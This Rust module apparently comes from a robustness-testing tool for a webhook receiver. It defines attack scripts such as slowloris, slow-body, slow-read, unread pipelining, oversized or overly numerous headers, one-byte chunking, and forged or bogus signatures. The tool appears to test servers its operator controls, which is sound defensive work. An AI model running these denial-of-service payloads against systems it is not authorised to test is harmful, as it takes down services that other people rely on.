//! What each connection of an attack does.

use std::net::SocketAddr;
use std::rc::Rc;
use std::time::Duration;

use crate::delivery::{Deliveries, head};
use crate::options::Options;
use crate::poll::Buffers;

/// What is sent first.
pub enum Opening {
    /// Nothing.
    Silent,
    /// Always the same.
    Fixed(Rc<Vec<u8>>),
    /// A genuine delivery, another one each time.
    Genuine(Box<Deliveries>, u64),
    /// So many bytes without any meaning; the state of their generator.
    Random(usize, u64),
}

impl Opening {
    /// Makes `out` the next thing to be sent.
    pub fn write(&mut self, out: &mut Rc<Vec<u8>>) {
        match self {
            Self::Silent => {}
            Self::Fixed(bytes) => *out = Rc::clone(bytes),
            Self::Genuine(deliveries, next) => {
                let out = Rc::make_mut(out);
                out.clear();
                deliveries.genuine(*next, out);
                *next += 1;
            }
            Self::Random(size, state) => {
                let out = Rc::make_mut(out);
                out.clear();
                while out.len() < *size {
                    // xorshift64
                    *state ^= *state << 13;
                    *state ^= *state >> 7;
                    *state ^= *state << 17;
                    out.extend_from_slice(&state.to_le_bytes());
                }
            }
        }
    }
}

/// What follows the answers.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Then {
    /// The same again on this connection.
    Again,
    /// Nothing, until the other side closes; then another connection.
    Reconnect,
    /// There is no request: the connection is reset as soon as it is there.
    CloseAtOnce,
    /// The connection is reset as soon as everything has been sent.
    Cut,
    /// The answer is not HTTP: with its first bytes comes the follow-up, if there is one; then another connection.
    Raw,
}

/// What a connection does.
pub struct Script {
    /// First of all.
    pub opening: Opening,
    /// Answers to it.
    pub answers: usize,
    /// From then on, so often, so few bytes.
    pub drip: Option<(Duration, &'static [u8])>,
    /// Whether answers are read.
    pub reads: bool,
    /// What follows.
    pub then: Then,
    /// What is sent with the first bytes of a raw answer.
    pub follow_up: Option<Rc<Vec<u8>>>,
    /// The size of the kernel's buffer for answers.
    pub buffers: Buffers,
}

/// Attacks by name.
pub const NAMES: &str = "forged unsigned capture genuine slowloris slow-body slow-read unread silent connect-close fields \
                         large-head random chunks unfinished byte-heads cut canned repeat named-headers options candidates";
/// Fields of a head that has too many.
/// An attacker that takes nothing.
const SMALL_RECEIVE: Buffers = Buffers { receive: Some(4096), send: None };
/// What an attacker cannot send lies in its own kernel's memory. Here that is the kernel of the target, too: thousands of large
/// send buffers would use up what all connections of the machine have together (`net.ipv4.tcp_mem`).
const SMALL_SEND: Buffers = Buffers { receive: None, send: Some(16 << 10) };
const FIELDS: usize = 400;
const LARGE_HEAD: usize = 128 << 10;
const ONE_BYTE_CHUNKS: usize = 2048;
/// Requests that are sent without reading one answer: their answers are more than the kernel's buffers hold.
const UNREAD: usize = 8192;
/// Names of header fields in one signature, and options of one `Connection` field: as many as a head of 16 KiB holds.
const NAMES_SIGNED: usize = 1300;
const OPTIONS: usize = 7500;
const OPTIONS_BESIDE_NAMES: usize = 5600;
/// Signatures in one header field.
const CANDIDATES: usize = 16;

impl Script {
    /// Reads the name of the attack and its options.
    ///
    /// # Errors
    /// A wrong option.
    pub fn read(options: &mut Options, target: SocketAddr) -> Result<Self, String> {
        let name: String = options.must("script")?;
        let path: String = options.or("path", "/webhooks/github".to_owned())?;
        let host: String = options.or("host", target.to_string())?;
        let size: usize = options.or("body", 256)?;
        let depth: usize = options.or("depth", 1)?;
        let first: u64 = options.or("first", 0)?;
        let drip = options.seconds("drip", 1.0)?.max(Duration::from_millis(50));
        let signs = matches!(name.as_str(), "genuine" | "capture" | "slow-read");
        let secret = if signs { crate::read_secret(options)? } else { Vec::new() };
        let mut deliveries = Deliveries::new(&host, &path, size.max(64), &secret);
        let mut forged = Vec::new();
        deliveries.forged(first, &mut forged);
        let fixed = |bytes: Vec<u8>| Opening::Fixed(Rc::new(bytes));
        let plain = Self {
            opening: Opening::Silent,
            answers: depth,
            drip: None,
            reads: true,
            then: Then::Again,
            follow_up: None,
            buffers: Buffers::default(),
        };
        let once = Self { answers: 1, then: Then::Reconnect, opening: Opening::Silent, follow_up: None, ..plain };
        let start = |rest: &str| [head(&host, &path), rest.as_bytes().to_vec()].concat();
        let signature = format!("X-Hub-Signature-256: sha256={}\r\n", "a".repeat(64));
        Ok(match name.as_str() {
            "forged" => Self { opening: fixed(forged.repeat(depth)), ..plain },
            "unsigned" => {
                let bytes = start(&format!("Content-Length: {size}\r\n\r\n{}", ".".repeat(size)));
                Self { opening: fixed(bytes.repeat(depth)), ..plain }
            }
            "capture" => {
                let mut bytes = Vec::new();
                deliveries.genuine(first, &mut bytes);
                Self { opening: fixed(bytes.repeat(depth)), ..plain }
            }
            "genuine" => Self { opening: Opening::Genuine(Box::new(deliveries), first), answers: 1, ..plain },
            "slowloris" => Self { opening: fixed(start("")), drip: Some((drip, b"X-Slow: 1\r\n")), ..once },
            "slow-body" => {
                let bytes = start(&format!("{signature}Content-Length: 100000\r\n\r\n"));
                Self { opening: fixed(bytes), drip: Some((drip, b".")), ..once }
            }
            "unfinished" => {
                let mut bytes = forged.clone();
                bytes.pop();
                Self { opening: fixed(bytes), buffers: SMALL_SEND, ..once }
            }
            "byte-heads" => Self { opening: fixed(b"P".to_vec()), drip: Some((drip, b"P")), ..once },
            "slow-read" => {
                let opening = Opening::Genuine(Box::new(deliveries), first);
                Self { opening, reads: false, buffers: SMALL_RECEIVE, ..once }
            }
            "unread" => Self { opening: fixed(forged.repeat(UNREAD)), reads: false, buffers: SMALL_RECEIVE, ..once },
            "silent" => Self { ..once },
            "connect-close" => Self { then: Then::CloseAtOnce, ..once },
            "fields" => {
                let fields: String = (0..FIELDS).map(|number| format!("X-Field-{number}: 1\r\n")).collect();
                Self { opening: fixed(start(&format!("{fields}\r\n"))), ..once }
            }
            "large-head" => {
                let bytes = start(&format!("X-Large: {}\r\n\r\n", ".".repeat(LARGE_HEAD)));
                Self { opening: fixed(bytes), ..once }
            }
            "random" => Self { opening: Opening::Random(512, first | 1), ..once },
            "chunks" => {
                let chunks = "1\r\n.\r\n".repeat(ONE_BYTE_CHUNKS);
                let bytes = start(&format!("{signature}Transfer-Encoding: chunked\r\n\r\n{chunks}0\r\n\r\n"));
                Self { opening: fixed(bytes), answers: 1, ..plain }
            }
            "cut" => {
                forged.truncate(forged.len() - size.max(64) / 2);
                Self { opening: fixed(forged), answers: 0, then: Then::Cut, ..plain }
            }
            "canned" => {
                let file: String = options.must("file")?;
                let follow_up: Option<String> = options.maybe("follow-up")?;
                let read = |path: String| std::fs::read(&path).map_err(|error| format!("{path}: {error}"));
                let follow_up = follow_up.map(read).transpose()?.map(Rc::new);
                Self { opening: fixed(read(file)?), answers: 1, then: Then::Raw, follow_up, ..plain }
            }
            "repeat" => {
                let file: String = options.must("file")?;
                let request = std::fs::read(&file).map_err(|error| format!("{file}: {error}"))?;
                Self { opening: fixed(request), answers: 1, ..plain }
            }
            "options" => {
                let listed = "z,".repeat(OPTIONS);
                let bytes = start(&format!("{signature}Connection: {listed}z\r\nContent-Length: 2\r\n\r\n{{}}"));
                Self { opening: fixed(bytes), answers: 1, ..plain }
            }
            "named-headers" => {
                let (names, listed) = (two_letter_names(NAMES_SIGNED), "z,".repeat(OPTIONS_BESIDE_NAMES));
                let bytes = start(&format!(
                    "X-Hook0-Signature: t={},h={names},v1={}\r\nConnection: {listed}z\r\nContent-Length: 2\r\n\r\n{{}}",
                    seconds_now(),
                    "a".repeat(64)
                ));
                Self { opening: fixed(bytes), answers: 1, ..plain }
            }
            "candidates" => {
                let signatures: Vec<String> = (0..CANDIDATES as u8).map(random_looking_signature).collect();
                let bytes = start(&format!(
                    "webhook-id: msg_1\r\nwebhook-timestamp: {}\r\nwebhook-signature: {}\r\nContent-Length: {size}\r\n\r\n{}",
                    seconds_now(),
                    signatures.join(" "),
                    ".".repeat(size)
                ));
                Self { opening: fixed(bytes), answers: 1, ..plain }
            }
            other => return Err(format!("--script cannot be {other}; it is one of: {NAMES}")),
        })
    }
}

/// So many distinct names of two characters, separated by spaces.
fn two_letter_names(count: usize) -> String {
    let letters = b"abcdefghijklmnopqrstuvwxyz0123456789-";
    let pairs = letters.iter().flat_map(|first| letters.iter().map(move |second| [*first, *second]));
    let names: Vec<String> = pairs.take(count).map(|pair| pair.map(char::from).iter().collect()).collect();
    names.join(" ")
}

/// An Ed25519 signature that is well formed (RFC 8032, section 5.1.7: its scalar is small enough) and wrong.
fn random_looking_signature(seed: u8) -> String {
    let mut bytes = [0_u8; 64];
    for (at, byte) in bytes.iter_mut().enumerate() {
        *byte = (at as u8).wrapping_mul(37).wrapping_add(seed.wrapping_mul(101)) ^ 0x5a;
    }
    bytes[63] = 1;
    format!("v1a,{}", base64(&bytes))
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let word = chunk.iter().fold(0_u32, |word, byte| word << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for digit in 0..4 {
            let is_there = digit <= chunk.len();
            out.push(if is_there { DIGITS[(word >> (18 - 6 * digit) & 63) as usize].into() } else { '=' });
        }
    }
    out
}

/// Seconds since 1970.
fn seconds_now() -> u64 {
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH);
    now.map_or(0, |since| since.as_secs())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_is_that_of_rfc_4648() {
        assert_eq!([&b""[..], b"f", b"fo", b"foo", b"foob"].map(base64), ["", "Zg==", "Zm8=", "Zm9v", "Zm9vYg=="]);
        assert_eq!(two_letter_names(3), "aa ab ac");
    }
}
